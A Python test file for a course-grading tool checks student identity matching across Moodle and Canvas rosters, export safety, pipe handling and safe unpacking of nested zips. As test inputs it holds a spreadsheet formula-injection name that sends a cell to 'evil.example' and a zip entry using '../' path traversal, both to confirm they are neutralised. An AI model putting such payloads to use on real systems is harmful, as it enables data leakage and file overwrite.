"""Who a file belongs to, and what an export or a pipe does with it, through the real
``dlcourse`` command on real scratch courses (review 21b holes 7 and 8, review 23b R8):

- a Moodle student who renames herself to a classmate's display name never takes the
  classmate's place once the classmate's participant id is known;
- roster ids that differ only in letter case are one login; names that start like a
  spreadsheet formula are warned about and exported as text;
- a Canvas export of a course without Canvas ids is refused, not written with empty ids;
- ``dlcourse grade`` whose reader goes away (``| head``) still grades and writes everything.
"""

from __future__ import annotations

import csv
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from dlgrade.course import make_course as make_dlgrade_course
from dlgrade.course import tools_env
from tests.submissions.crafted import TINY_CONFIG, dlcourse, tiny_notebook

pytestmark = pytest.mark.slow  # real nbgrader release and collect runs

MOODLE_ROSTER = """\
First name,Last name,ID number,Email address
Jane,Smith,jsmith,j@uni.example
Bob,Other,bother,b@uni.example
"""
HINT = ("to match by participant id: in Moodle, the assignment's 'View all submissions' > "
        "'Download grading worksheet', then `dlcourse roster import worksheet.csv "
        "--assignment tiny`")


def _course(course_dir, name: str) -> Path:
    course = make_dlgrade_course(Path(course_dir) / name, TINY_CONFIG.format(
        timeout=20, extra=""), {"tiny": tiny_notebook()})
    return course


def _zip(path: Path, entries: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, text in entries.items():
            zf.writestr(name, text)
    return path


def _marked(release: str, word: str) -> str:
    nb = nbformat.reads(release, as_version=4)
    nb.cells.insert(0, nbformat.v4.new_markdown_cell(word))
    return nbformat.writes(nb)


def _one_line(text: str) -> str:
    return " ".join(text.split())


def test_a_moodle_rename_never_takes_a_classmates_place(course_dir, tmp_path):
    """Review 21b, hole 7. Without the grading worksheet, files are matched by name; the
    participant id each student was first collected with stays theirs, so Jane, renamed
    "Bob Other" in Moodle, is still Jane (her id), and a third person under Bob's name with a
    new id is refused with both ids named."""
    course = _course(course_dir, "moodle-rename")
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE_ROSTER, encoding="utf-8")
    dlcourse("roster", "import", roster, cwd=course)
    dlcourse("release", "tiny", cwd=course)
    release = (course / "exercises/tiny/tiny.ipynb").read_text()

    # before any file was collected, two ids claim one name: neither is taken by guess
    both = _zip(tmp_path / "both.zip", {
        "Bob Other_55_assignsubmission_file_/tiny.ipynb": _marked(release, "JANE"),
        "Bob Other_66_assignsubmission_file_/tiny.ipynb": _marked(release, "BOB")})
    proc = dlcourse("collect", "tiny", both, cwd=course, check=False)
    assert proc.returncode == 1 and not (course / "submitted/bother").exists(), proc.stdout
    err = _one_line(proc.stderr)
    assert ("bother: 2 Moodle files claim this student by name only, with participant ids "
            "55, 66: a classmate who took this name in Moodle? none copied (neither is taken "
            "by guess); " + HINT) in err, err

    # both students' first upload: matched by name, said so with the way to give the ids
    first = _zip(tmp_path / "first.zip", {
        "Jane Smith_55_assignsubmission_file_/tiny.ipynb": _marked(release, "JANE-1"),
        "Bob Other_66_assignsubmission_file_/tiny.ipynb": _marked(release, "BOB-1")})
    proc = dlcourse("collect", "tiny", first, cwd=course)
    assert proc.returncode == 0 and "copied 2 new" in proc.stdout, proc.stdout + proc.stderr
    err = _one_line(proc.stderr)
    assert ("Bob Other_66_assignsubmission_file_/tiny.ipynb: matched by name only: no roster "
            "student has Moodle participant id 66; 'Bob Other' is the name of bother "
            "warning:") in err, err
    assert err.endswith("warning: 2 Moodle files matched by name only: the participant id "
                        "each was collected with is kept as the student's for tiny, so a "
                        "later file under the same name with another id (a classmate who "
                        "took the name in Moodle) is refused; " + HINT), err

    # Jane renames herself "Bob Other": her id still says she is Jane; Bob's file is Bob's
    second = _zip(tmp_path / "second.zip", {
        "Bob Other_55_assignsubmission_file_/tiny.ipynb": _marked(release, "JANE-2"),
        "Bob Other_66_assignsubmission_file_/tiny.ipynb": _marked(release, "BOB-2")})
    proc = dlcourse("collect", "tiny", second, cwd=course)
    assert proc.returncode == 0 and "copied 0 new, 2 changed" in proc.stdout, (
        proc.stdout + proc.stderr)
    assert "warning" not in proc.stderr, proc.stderr
    assert "JANE-2" in (course / "submitted/jsmith/tiny/tiny.ipynb").read_text()
    assert "BOB-2" in (course / "submitted/bother/tiny/tiny.ipynb").read_text()

    # a new id under Bob's name (a third student renamed): refused, both ids named
    third = _zip(tmp_path / "third.zip", {
        "Bob Other_77_assignsubmission_file_/tiny.ipynb": _marked(release, "EVE")})
    proc = dlcourse("collect", "tiny", third, cwd=course, check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    err = _one_line(proc.stderr)
    assert ("Bob Other_77_assignsubmission_file_/tiny.ipynb: 'Bob "
            "Other' is bother, whose Moodle participant id for tiny is 66 (their file was "
            "first collected with it), not 77: a classmate who took this name in Moodle, or "
            "another person of the same name? not copied; " + HINT) in err, err
    assert "BOB-2" in (course / "submitted/bother/tiny/tiny.ipynb").read_text()

    # R8: an id and a name nobody has: the reason says how to give the ids
    fourth = _zip(tmp_path / "fourth.zip", {
        "Fred Former_1500300_assignsubmission_file_/tiny.ipynb": release})
    proc = dlcourse("collect", "tiny", fourth, cwd=course, check=False)
    assert ("no roster student has Moodle participant id 1500300 or the name 'Fred Former'; "
            + HINT) in _one_line(proc.stderr), proc.stderr

    # R8: a Canvas export of this Moodle course (no Canvas ids): refused, nothing written
    out = tmp_path / "moodle_as_canvas.csv"
    proc = dlcourse("export", "tiny", "--format", "canvas", "-o", out, cwd=course)
    assert proc.returncode == 2 and not out.exists(), proc.stdout + proc.stderr
    assert ("Error: format: no student of this course has a Canvas user id"
            in _one_line(proc.stderr)), proc.stderr


CANVAS = """\
Student,ID,SIS User ID,SIS Login ID,Section
"Nguyen, An",12349,9349,anguyen,Lab A
"=HYPERLINK(""http://evil.example/?""&D3), Eve",12351,9351,eve,=1+1
"""


def test_ids_differ_in_case_formulas_are_text_and_canvas_needs_its_ids(course_dir, tmp_path):
    """Review 23b R8 and 21b hole 8, through the command line."""
    course = _course(course_dir, "canvas-case")
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS, encoding="utf-8")
    proc = dlcourse("roster", "import", roster, cwd=course)
    assert "roster: 2 added" in proc.stdout, proc.stdout + proc.stderr
    assert ("warning: eve: the name 'Eve =HYPERLINK(\"http://evil.example/?\"&D3)' (line 3) "
            "starts like a spreadsheet formula: exports write it with a leading ' so that a "
            "spreadsheet shows it as text") in _one_line(proc.stderr), proc.stderr

    # two rows, one login in two letter cases: refused with both lines
    dup = tmp_path / "dup.csv"
    dup.write_text(CANVAS + '"Nguyen, An",12350,9350,ANGUYEN,Lab A\n', encoding="utf-8")
    proc = dlcourse("roster", "import", dup, cwd=course)
    assert proc.returncode == 2 and ("line 4: student id 'ANGUYEN' already on line 2 as "
                                     "'anguyen': ids that differ only in letter case are one "
                                     "login") in _one_line(proc.stderr), proc.stderr
    # a later export with the login in upper case is the same student
    upper = tmp_path / "upper.csv"
    upper.write_text(CANVAS.replace(",anguyen,", ",ANGUYEN,"), encoding="utf-8")
    proc = dlcourse("roster", "import", upper, cwd=course)
    assert "roster: 0 added" in proc.stdout, proc.stdout + proc.stderr
    assert ("anguyen: the id 'ANGUYEN' on line 2 is the same login in other letter case: kept "
            "as 'anguyen', the gradebook's") in _one_line(proc.stderr), proc.stderr

    dlcourse("release", "tiny", cwd=course)
    folder = tmp_path / "download" / "ANGUYEN"  # a plain folder per student, upper case
    folder.mkdir(parents=True)
    (folder / "tiny.ipynb").write_text((course / "exercises/tiny/tiny.ipynb").read_text())
    proc = dlcourse("collect", "tiny", tmp_path / "download", cwd=course)
    assert proc.returncode == 0 and "copied 1 new" in proc.stdout, proc.stdout + proc.stderr
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["anguyen"]

    out = tmp_path / "canvas_out.csv"
    proc = dlcourse("export", "tiny", "--format", "canvas", "-o", out, cwd=course)
    assert proc.returncode == 0, proc.stderr
    rows = {r[3]: r for r in csv.reader(out.open(newline="", encoding="utf-8"))}
    assert rows["eve"][0].startswith("'=HYPERLINK(") and rows["eve"][4] == "'=1+1"
    assert rows["eve"][1:4] == ["12351", "9351", "eve"] and rows["eve"][5] == "0"


def test_grade_whose_reader_goes_away_grades_to_the_end(course_dir):
    """Review 23b R8: `dlcourse grade | head` and `dlcourse grade 2>&1 | head`: standard output
    (and error) closed before the first line; the run grades, writes grades.csv and exits as
    if read (2: a submission failed), with no BrokenPipe traceback."""
    course = _course(course_dir, "pipe")
    dlcourse("release", "tiny", cwd=course)
    empty = course / "submitted/ann/tiny/tiny.ipynb"  # fails fast, with a line on stderr
    empty.parent.mkdir(parents=True)
    empty.write_text("")
    script = str(Path(sys.executable).parent / "dlcourse")
    for stderr in (subprocess.PIPE, subprocess.STDOUT):
        proc = subprocess.Popen([script, "grade", "tiny", "--force"], cwd=course,
                                stdout=subprocess.PIPE, stderr=stderr, env=tools_env(None))
        proc.stdout.close()  # the reader is gone before anything was written
        err = proc.stderr.read().decode() if proc.stderr else ""
        assert proc.wait(timeout=600) == 2, err
        assert "Traceback" not in err and "BrokenPipe" not in err, err
        rows = list(csv.DictReader((course / "grading/tiny/grades.csv").open()))
        assert [r["student"] for r in rows] == ["ann"], rows
        assert rows[0]["status"].startswith("failed: tiny.ipynb is empty"), rows


def test_a_students_own_zip_in_a_download_folder_is_read_as_in_the_zip(course_dir, tmp_path):
    """Review 21c, C1: an unpacked Moodle download whose Bob handed in ``work.zip``. It is
    unpacked under the rules of a zip inside the LMS zip (no path escape, notebooks only),
    stamped with the zip file's time (the download's, not a time inside it), never silently
    ignored; what it refuses is listed and the exit status is 1."""
    import datetime as dt
    import os

    course = _course(course_dir, "folder-zip")
    roster = tmp_path / "participants.csv"
    roster.write_text(MOODLE_ROSTER, encoding="utf-8")
    dlcourse("roster", "import", roster, cwd=course)
    dlcourse("release", "tiny", cwd=course)
    release = (course / "exercises/tiny/tiny.ipynb").read_text()
    download = tmp_path / "download"
    jane = download / "Jane Smith_55_assignsubmission_file_"
    jane.mkdir(parents=True)
    (jane / "tiny.ipynb").write_text(_marked(release, "jane's"))
    bob = download / "Bob Other_77_assignsubmission_file_"
    bob.mkdir()
    work = _zip(bob / "work.zip", {"tiny.ipynb": _marked(release, "bob's"),
                                   "../../escape.ipynb": release, "notes.txt": "hi"})
    when = dt.datetime(2026, 1, 1, 12, 0, tzinfo=dt.timezone.utc).timestamp()
    os.utime(work, (when, when))

    # a folder's file times are this computer's wall clock read in --timezone (as unzip set
    # them): TZ=UTC makes the zip's 12:00 UTC modification time 12:00 UTC on any CI machine
    proc = dlcourse("collect", "tiny", download, "--timezone", "UTC", cwd=course, check=False,
                    env={"TZ": "UTC"})
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "copied 2 new" in proc.stdout, proc.stdout
    assert "bother       submitted 2026-01-01 12:00:00.000000 UTC" in proc.stdout, proc.stdout
    assert ("refused (not copied): Bob Other_77_assignsubmission_file_/work.zip/../../"
            "escape.ipynb: an absolute name or one with '..'") in proc.stderr, proc.stderr
    assert "bob's" in (course / "submitted/bother/tiny/tiny.ipynb").read_text()
    assert "jane's" in (course / "submitted/jsmith/tiny/tiny.ipynb").read_text()
    assert not (tmp_path / "escape.ipynb").exists() and not list(course.rglob("escape*"))
